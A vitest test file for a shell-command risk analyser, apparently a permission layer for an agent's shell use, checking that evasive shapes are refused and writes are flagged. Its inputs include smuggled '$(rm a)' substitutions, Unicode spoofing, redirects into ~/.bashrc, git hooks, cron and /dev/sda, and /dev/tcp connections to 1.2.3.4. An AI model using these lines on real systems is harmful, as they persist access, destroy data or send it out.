/** Which shapes of a shell line are taken over, which are refused, and that neither reads what bash would not read. */
import { describe, expect, it } from "vitest";
import { analyse } from "../../registry/shell/analyse.ts";
import { lineCharsMax } from "../../registry/shell/line.ts";

const place = { cwd: ".", workspace: "/work/space" };
const judged = (text: string) => analyse(text, place);
const words = (text: string) => judged(text).parts.map((part) => part.words);

describe("shapes that bash and the parser read differently are refused", () => {
  it.each([
    ["a descriptor that is closed before a word", "<&-rm ls src", "redirect"],
    ["the same behind the program", "ls <&-rm src", "redirect"],
    ["a substitution in a default", `echo "\${x:'$(rm a)'}"`, "expansion"],
    ["a substitution in a malformed name", `echo \${-$(rm a)}`, "expansion"],
    ["an indexed array with a word behind it", "a=([$(rm a)]=1)word ls", "assignment"],
    ["a process substitution joined to a word", "cat x<(ls)", "word"],
    ["a word joined to a process substitution", "df <(ls)-h .", "word"],
    ["a parenthesis that belongs to nothing", "grep (-n a", "syntax"],
    ["a brace that another one closes", "cat {x},.env}", "braces"],
    ["a dollar that a line end parts from its name", 'cat "a$\\\n{x:-b}"', "expansion"],
    ["old arithmetic", 'echo "$[1+1]"', "expansion"],
    ["a carriage return", "ls\r-l", "character"],
    ["a character nobody sees", "ls\u200b -l", "character"],
    ["a blank that is none to bash", "ls\u00a0-l", "character"],
    ["a letter that looks like a blank", "ls '\u3164'", "character"],
    ["a text that turns the reading direction", "ls '\u202egnp.exe'", "character"],
    ["a letter of another script outside of quotes", "lѕ", "character"],
  ])("%s", (_, text, shape) => {
    const verdict = judged(text);
    expect([verdict.risk, verdict.rule, verdict.emitted, verdict.complete]).toEqual([
      "unknown",
      `shell.shape.${shape}`,
      null,
      false,
    ]);
  });
});

describe("shapes that are not taken apart ask, and their calls are found all the same", () => {
  it.each([
    ["for f in a b; do rm $f; done"],
    ["while true; do rm a; done"],
    ["if rm a; then ls; fi"],
    ["(rm a)"],
    ["{ rm a; }"],
    ["rm a &"],
    ["X=1 rm a"],
    ["f() { rm a; }; f"],
    ["case x in x) rm a;; esac"],
    ["echo `rm a`"],
    ["[[ -f x ]] && rm a"],
    ["coproc rm a"],
    ["cat <<EOF\n$(rm a)\nEOF"],
    [`echo "\${x:-$(rm a)}"`],
    ["echo $((1 + $(rm a)))"],
    ["bash -c 'rm a'"],
    ["eval 'eval \"rm a\"'"],
    ["sudo -u someone rm a"],
    ["sudo -u git rm a"],
    ["env -i X=1 rm a"],
    ["timeout --unheard-of 5 rm a"],
    ["flock lock rm a"],
    ["find . -exec sh -c 'rm a' \\;"],
    ["ls | xargs sh -c 'rm a'"],
    ["watch 'rm a'"],
    ["trap 'rm a' EXIT"],
  ])("%s", (text) => {
    const verdict = judged(text);
    expect(verdict.risk).toBe("unknown");
    expect(verdict.complete).toBe(false);
    expect(verdict.parts.map((part) => part.words[0])).toContain("rm");
  });
});

describe("words are what bash makes of them", () => {
  it.each([
    [`cat a'b c'"d $ e"\\ f`, ["cat", "ab cd $ e f"]],
    [`cat "a\\"b\\$c\\d"`, ["cat", 'ab"$c\\d'.replace("ab", 'a"b').replace('b"$c', "b$c")]],
    ["cat a\\\nb", ["cat", "ab"]],
    ["cat $'a\\tb'", ["cat", "a\tb"]],
    ["cat src/{a,b}.{x,y}", ["cat", "src/a.x", "src/a.y", "src/b.x", "src/b.y"]],
    ["echo {3..1}", ["echo", "3", "2", "1"]],
    ["cat stash@{0} {}", ["cat", "stash@{0}", "{}"]],
    ["cat *.[ch]?", ["cat", "*.[ch]?"]],
    ["cat ~/x", ["cat", "~/x"]],
    ['cat "$HOME/a b"', ["cat", "~/a b"]],
    ["cat x # rm y", ["cat", "x"]],
  ])("%s", (text, expected) => {
    expect(words(text)).toEqual([expected]);
  });

  it("and what is more than words is told from them", () => {
    expect(words("a; b && c || d | e")).toEqual([["a"], ["b"], ["c"], ["d"], ["e"]]);
    expect(words("echo $(a $(b))")).toEqual([["b"], ["a", "$(b)"], ["echo", "$(a $(b))"]]);
  });
});

describe("folders", () => {
  it("are followed through success and failure, and every file is told from where the line began", () => {
    const paths = (text: string) => judged(text).paths.map(({ path }) => path);
    expect(paths("cd a && cat x && cd .. && cat y")).toEqual(["a", "a/x", ".", "y"]);
    expect(paths("cd a; cat x")).toEqual(["a", "x", "a/x"]);
    expect(paths("cd a || cat x")).toEqual(["a", "x"]);
    expect(paths("cd a && cat ../x /y ~/z")).toEqual(["a", "a/../x", "/y", "~/z"]);
    expect(paths("echo $(cd a && cat x); cat y")).toEqual(["a", "a/x", "y"]);
    expect(paths("cd /work/space/b && cat x")).toEqual(["b", "b/x"]);
  });

  it.each([
    ["cd .. && ls"],
    ["cd / && ls"],
    ["cd /work/spaceship && ls"],
    ["cd a/../.. && ls"],
    ["cd && ls"],
    ["cd - && ls"],
  ])("outside of the workspace or unknown ask: %s", (text) => {
    expect(judged(text).risk).toBe("unknown");
  });

  it("that configure a program ask unless they lie below", () => {
    const below = analyse("cd a && git log", { cwd: "b", workspace: "/work/space" });
    const beside = analyse("cd ../a && git log", { cwd: "b", workspace: "/work/space" });
    const plain = analyse("cd ../a && cat x", { cwd: "b", workspace: "/work/space" });
    expect([below.risk, beside.risk, beside.rule, plain.risk]).toEqual([
      "read-only",
      "unknown",
      "shell.git.log.folder",
      "read-only",
    ]);
    expect(plain.paths).toContainEqual({ path: "../a/x", access: "read" });
  });

  it("are never left by the line's own place", () => {
    expect(analyse("ls", { cwd: "..", workspace: "/work/space" }).risk).toBe("unknown");
    expect(analyse("ls", { cwd: "/elsewhere", workspace: "/work/space" }).risk).toBe("unknown");
  });
});

describe("redirections", () => {
  it("of streams and into nothing change nothing", () => {
    const verdict = judged("ls x 2>&1 >/dev/null 2>/dev/null | cat 1>&2");
    expect([verdict.risk, verdict.loses]).toEqual(["read-only", []]);
  });

  it("name the file that they write, and what it loses", () => {
    const cut = judged("ls > out.txt");
    expect([cut.risk, cut.rule, cut.paths.at(0)?.path, cut.loses]).toEqual([
      "mutating",
      "shell.redirect.truncate",
      "out.txt",
      ["what out.txt holds now"],
    ]);
    expect(judged("ls >> out.txt")).toMatchObject({ risk: "mutating", loses: [] });
    expect(judged("cat < in.txt").paths).toMatchObject([{ path: "in.txt", access: "read" }]);
  });

  it.each([
    ["ls > ~/.bashrc"],
    ["ls >> .git/hooks/pre-commit"],
    ["ls > /etc/cron.d/x"],
    ["ls > $X"],
    ["ls > *.txt"],
    ["ls >&out"],
    ["ls >&-"],
    ["ls >&-rm"],
    ["ls 3>out"],
    ["ls {fd}>out"],
    ["ls <>out"],
    ["ls > /dev/sda"],
    ["cat < /dev/tcp/1.2.3.4/80"],
    ["ls > /dev/tcp/1.2.3.4/80"],
  ])("are destructive or unknown where they reach further: %s", (text) => {
    expect(["destructive", "unknown"]).toContain(judged(text).risk);
  });
});

describe("limits", () => {
  it("are kept by asking", () => {
    expect(judged(`ls ${"a".repeat(lineCharsMax)}`)).toMatchObject({ risk: "unknown", rule: "shell.shape.length" });
    expect(judged(`cat ${"{a,b}".repeat(40)}`)).toMatchObject({ risk: "unknown", rule: "shell.shape.braces" });
    expect(judged(`${"timeout 1 ".repeat(40)}ls`)).toMatchObject({ risk: "unknown", complete: false });
  });

  it("never hide a call: every one of thousands is listed", () => {
    const verdict = judged(`${"ls; ".repeat(2_000)}rm a`);
    expect(verdict.parts).toHaveLength(2_001);
    expect([verdict.risk, verdict.parts.at(-1)?.words]).toEqual(["unknown", ["rm", "a"]]);
  });
});
